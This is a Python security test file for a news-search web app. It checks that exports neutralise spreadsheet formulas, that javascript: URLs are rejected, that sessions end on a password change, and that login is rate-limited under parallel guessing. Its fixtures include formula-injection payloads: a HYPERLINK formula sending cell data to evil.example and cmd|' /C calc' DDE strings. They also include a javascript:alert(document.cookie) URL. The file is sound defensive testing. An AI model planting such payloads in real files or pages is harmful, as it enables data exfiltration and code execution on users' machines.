"""Hostile content and parallel attackers on the web, on each backend: spreadsheet formulas in crawled titles
stay inert in the CSV and XLSX exports, a non-http(s) canonical URL is never returned, parallel login
guesses cannot beat the limit, and a password change ends the user's sessions."""

from __future__ import annotations

import csv
import io
import re
import threading
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update
from typer.testing import CliRunner

from pipeline.cli.main import app as cli
from pipeline.web.auth import add_user
from storage import users as user_repo
from storage.articles import insert_article
from storage.db import session_scope
from storage.models import ArticleRow
from storage.records import RawArticle

from .conftest import PASSWORD, Site, login

QUERY = "ban chat"
FORMULAS = {
    "equals-hyperlink": '=HYPERLINK("http://evil.example/?q="&A1,"Bấm xem") Tin lũ',
    "plus": "+1+cmd|' /C calc'!A0 Tin lũ",
    "minus": "-2+3+cmd|' /C calc'!A0 Tin lũ",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0 Tin lũ",
    "tab": "\t=1+1 Tin lũ",
    "carriage-return": "\r=1+1 Tin lũ",
}


def _first_hit(client: Any) -> int:
    hits = client.get("/api/search", params={"q": QUERY, "per_page": 5}).json()["hits"]
    assert hits, "the demo database has articles for the query"
    return int(hits[0]["id"])


@pytest.fixture
def hostile_title(site: Site, client_for: Any, request: pytest.FixtureRequest) -> Any:
    """Give the first search hit a formula title for one test, then restore it."""
    article_id = _first_hit(client_for("analyst"))
    with session_scope(site.url) as session:
        before = session.scalar(select(ArticleRow.title).where(ArticleRow.id == article_id))
        session.execute(update(ArticleRow).where(ArticleRow.id == article_id).values(title=request.param))
    yield request.param
    with session_scope(site.url) as session:
        session.execute(update(ArticleRow).where(ArticleRow.id == article_id).values(title=before))


@pytest.mark.parametrize("hostile_title", list(FORMULAS.values()), ids=list(FORMULAS), indirect=True)
def test_csv_export_neutralises_formula_cells(client_for: Any, hostile_title: str) -> None:
    response = client_for("analyst").get("/search/export.csv", params={"q": QUERY})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + hostile_title in cells  # OWASP: a leading apostrophe keeps it text
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("hostile_title", list(FORMULAS.values()), ids=list(FORMULAS), indirect=True)
def test_xlsx_export_has_no_formula_cells(client_for: Any, hostile_title: str) -> None:
    response = client_for("analyst").get("/search/export.xlsx", params={"q": QUERY})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)  # HYPERLINK and the rest stay inert text
    assert hostile_title in [c.value for c in cells]


def test_a_javascript_canonical_is_never_stored_or_returned(site: Site, client_for: Any) -> None:
    now = datetime.now(UTC)
    raw = RawArticle(
        url="http://127.0.0.1:8765/xu-lang/thoi-su/ban-chat-canonical-doc-9999902.html",
        canonical_url="javascript:alert(document.cookie)",
        source_id="xu_lang",
        title="Bản Chắt: bài có đường dẫn gốc độc hại",
        sapo="Bản Chắt",
        text="Người dân xã Bản Chắt phản ánh về con suối. " * 20,
        author=None,
        published_at=now - timedelta(hours=1),
        fetched_at=now,
    )
    with session_scope(site.url) as session:
        article_id = insert_article(session, raw)
    assert article_id is not None
    client = client_for("analyst")
    assert client.get(f"/api/articles/{article_id}").json()["article"]["url"] == raw.url
    hits = client.get("/api/search", params={"q": "ban chat", "per_page": 100}).json()["hits"]
    assert all(h["url"].startswith(("http://", "https://")) for h in hits)
    export = client.get("/search/export.csv", params={"q": QUERY}).content.decode("utf-8-sig")
    assert "javascript:" not in export


def test_changing_a_password_ends_the_users_sessions(site: Site) -> None:
    from fastapi.testclient import TestClient

    from pipeline.web.app import create_app

    add_user(site.app.settings, "doi_mat_khau", "analyst", PASSWORD)
    client = TestClient(create_app(site.app), base_url="http://127.0.0.1")
    assert login(client, "doi_mat_khau").status_code == 303
    assert client.get("/api/me").status_code == 200
    options = ["--data-dir", str(site.app.settings.data_dir), "--database-url", site.url]
    result = CliRunner().invoke(
        cli, [*options, "users", "passwd", "doi_mat_khau", "--password-stdin"], input="mật-khẩu-mới-dài\n"
    )
    assert result.exit_code == 0, result.output
    assert client.get("/api/me").status_code == 401  # the old session is gone
    assert login(client, "doi_mat_khau", "mật-khẩu-mới-dài").status_code == 303
    client.close()


def test_parallel_login_guesses_cannot_beat_the_limit(site: Site, live_server: str) -> None:
    """25 simultaneous wrong POST /login for one user: at most login_max_failures of them reach the
    password check, the rest are refused with 429, and the right password right after is refused too.
    (The right password inside the burst would, when it wins early, rightly clear the user's failures.)"""
    name = "doan_mat_khau"
    add_user(site.app.settings, name, "analyst", PASSWORD)
    passwords = [f"sai-mat-khau-{i:02d}" for i in range(25)]
    clients = [httpx.Client(base_url=live_server, timeout=60) for _ in passwords]
    barrier = threading.Barrier(len(clients))
    statuses: list[int] = []

    def attempt(client: httpx.Client, password: str) -> None:
        token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/login").text)
        assert token
        form = {"username": name, "password": password, "csrf_token": token.group(1), "next": "/"}
        barrier.wait()
        statuses.append(client.post("/login", data=form, follow_redirects=False).status_code)

    threads = [threading.Thread(target=attempt, args=pair) for pair in zip(clients, passwords, strict=True)]
    try:
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=120)
        with httpx.Client(base_url=live_server, timeout=60) as late:
            token = re.search(r'name="csrf_token" value="([^"]+)"', late.get("/login").text)
            assert token
            form = {"username": name, "password": PASSWORD, "csrf_token": token.group(1), "next": "/"}
            right = late.post("/login", data=form, follow_redirects=False).status_code
    finally:
        for client in clients:
            client.close()
        with session_scope(site.url) as session:  # 127.0.0.1 may log in again in later tests
            user_repo.prune_login_failures(session, before=datetime.now(UTC) + timedelta(days=1))
    assert len(statuses) == 25
    checked = [s for s in statuses if s != 429]
    assert len(checked) <= site.app.settings.login_max_failures, sorted(statuses)
    assert set(checked) <= {401} and statuses.count(429) >= 25 - site.app.settings.login_max_failures
    assert right == 429
